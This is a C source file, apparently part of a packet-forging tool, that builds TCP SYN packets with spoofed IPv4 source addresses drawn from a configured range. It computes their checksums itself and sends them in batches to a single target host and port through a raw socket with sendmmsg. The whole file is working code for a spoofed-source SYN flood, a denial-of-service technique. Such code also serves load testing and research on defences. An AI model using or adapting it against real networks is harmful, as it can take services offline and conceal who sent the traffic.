/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Built in full, for nobody behind a raw socket makes the checksum of TCP. */
#include "forged.h"

#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stddef.h>
#include <sys/socket.h>

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

/* RFC 1071, of 16-bit words in network order. */
static uint32_t add_words(uint32_t sum, const void *words, size_t size)
{
	const uint8_t *bytes = words;

	for (size_t i = 0; i < size; i += 2)
		sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	return sum;
}

static uint16_t checksum(const struct syn *syn)
{
	uint32_t sum = IPPROTO_TCP + sizeof(syn->tcp);

	sum = add_words(sum, &syn->ip.saddr, sizeof(syn->ip.saddr));
	sum = add_words(sum, &syn->ip.daddr, sizeof(syn->ip.daddr));
	sum = add_words(sum, &syn->tcp, sizeof(syn->tcp));
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static struct syn make_syn(const struct forged *forged, uint32_t source, uint32_t number)
{
	struct syn syn = {
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP },
		.tcp = { .doff = 5, .syn = 1, .dest = htons(forged->port) },
	};

	syn.ip.saddr = htonl(forged->first + source);
	syn.ip.daddr = forged->to;
	syn.ip.tot_len = htons(sizeof(syn));
	syn.tcp.source = htons((uint16_t)(1024 + number));
	syn.tcp.seq = htonl(number * 2654435761U);
	syn.tcp.window = htons(1024);
	syn.tcp.check = checksum(&syn);
	return syn;
}

int forged_socket(void)
{
	return socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
}

unsigned int forged_send(int fd, const struct forged *forged, uint32_t source, uint32_t number)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = forged->to };
	struct mmsghdr messages[FORGED_GROUP] = {};
	struct iovec parts[FORGED_GROUP];
	struct syn syns[FORGED_GROUP];
	int n;

	for (uint32_t i = 0; i < FORGED_GROUP; i++) {
		syns[i] = make_syn(forged, source + i, number);
		parts[i] = (struct iovec){ &syns[i], sizeof(syns[i]) };
		messages[i].msg_hdr = (struct msghdr){
			.msg_name = &to,
			.msg_namelen = sizeof(to),
			.msg_iov = &parts[i],
			.msg_iovlen = 1,
		};
	}
	n = sendmmsg(fd, messages, FORGED_GROUP, 0);
	return n > 0 ? (unsigned int)n : 0;
}
